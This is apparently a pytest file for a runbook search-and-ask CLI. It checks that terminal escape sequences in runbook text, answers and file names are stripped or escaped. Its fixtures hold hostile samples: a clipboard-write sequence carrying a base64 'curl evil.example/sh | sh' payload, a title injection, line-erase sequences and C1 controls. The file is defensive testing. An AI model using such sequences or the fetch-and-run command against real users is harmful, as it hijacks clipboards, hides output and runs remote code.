"""Text from runbooks, models and file names never drives the terminal it is printed to.

A runbook can hold escape sequences: ``ESC ] 52`` writes the clipboard, ``ESC ] 0`` sets the
window title, ``ESC [ 2K ESC [ 1A`` erases a line and moves the cursor up over what was
printed before. Every command prints them stripped (``--json`` keeps them, escaped), and rich
markup inside a runbook prints literally.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from clitools import Run, assert_one_error_line, write_runbooks

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07"  # "curl evil.example/sh | sh"
TITLE = "\x1b]0;owned\x1b\\"
ERASE = "\x1b[2K\x1b[1A"
C1 = "\x9b31m\x9d0;c1 title\x9c"  # the one-byte (C1) forms of CSI and OSC
MARKUP = "[bold red]not a style[/] [link=https://evil.example]not a link[/link]"

HOSTILE = f"""\
# Etcd defragmentation{TITLE}

{MARKUP}: etcd nears its quota.{CLIPBOARD}

## Mitigation

Run `etcdctl defrag --cluster` on each member{ERASE} and then check the etcd endpoint status.{C1} Ring\x07.
"""
QUESTION = "How do I run etcd defrag when the etcd database nears its quota?"


def _assert_no_controls(text: str) -> None:
    for char in ("\x1b", "\x9b", "\x9d", "\x9c", "\x07"):
        assert char not in text, f"{char!r} reached the terminal: {text!r}"


def _ingest_hostile(tmp_path: Path, cli_ok: Callable[..., Run]) -> None:
    folder = write_runbooks(tmp_path / "runbooks", {"etcd.md": HOSTILE})
    cli_ok("ingest", str(folder), "--json")


def test_search_strips_escape_sequences_from_runbook_text(tmp_path: Path, cli_ok: Callable[..., Run]) -> None:
    _ingest_hostile(tmp_path, cli_ok)
    run = cli_ok("search", "etcd defrag quota")

    _assert_no_controls(run.stdout + run.stderr)
    assert "etcd.md" in run.stdout
    assert "Etcd defragmentation" in run.stdout  # the heading, minus its title sequence
    assert "Run `etcdctl defrag --cluster` on each member a" in run.stdout  # the erase sequence is gone
    assert "owned" not in run.stdout  # whole sequences go, not just their ESC
    assert MARKUP in run.stdout  # runbook text is never read as rich markup


def test_ask_strips_escape_sequences_from_the_answer_and_sources(tmp_path: Path, cli_ok: Callable[..., Run]) -> None:
    _ingest_hostile(tmp_path, cli_ok)
    run = cli_ok("ask", QUESTION)

    _assert_no_controls(run.stdout + run.stderr)
    assert "etcdctl defrag --cluster" in run.stdout  # the extractive answer quotes the runbook
    assert "etcd.md" in run.stdout  # the sources
    assert "Etcd defragmentation" in run.stdout


def test_json_output_keeps_the_text_but_escapes_every_control_character(
    tmp_path: Path, cli_ok: Callable[..., Run]
) -> None:
    _ingest_hostile(tmp_path, cli_ok)
    searched, asked = cli_ok("search", "etcd defrag quota", "--json"), cli_ok("ask", QUESTION, "--json")
    for run in (searched, asked):
        _assert_no_controls(run.stdout)
        assert "\\u001b" in run.stdout
        assert "\\u009b" in run.stdout  # C1 too: json.dumps(ensure_ascii=False) leaves it raw
    # The data itself is unchanged: a script gets the runbook as it is.
    best = searched.json()["results"][0]["text"]
    assert f"on each member{ERASE} and then check the etcd endpoint status.{C1}" in best
    assert CLIPBOARD in asked.json()["answer"]


def test_error_lines_strip_escape_sequences(tmp_path: Path, cli_main: Callable[..., Run]) -> None:
    # Error messages quote file names, model output and server replies.
    run = cli_main("finetune", "validate", str(tmp_path / f"data{TITLE}{ERASE}.jsonl"))
    line = assert_one_error_line(run, "Path not found")
    _assert_no_controls(run.stderr)
    assert "data.jsonl" in line
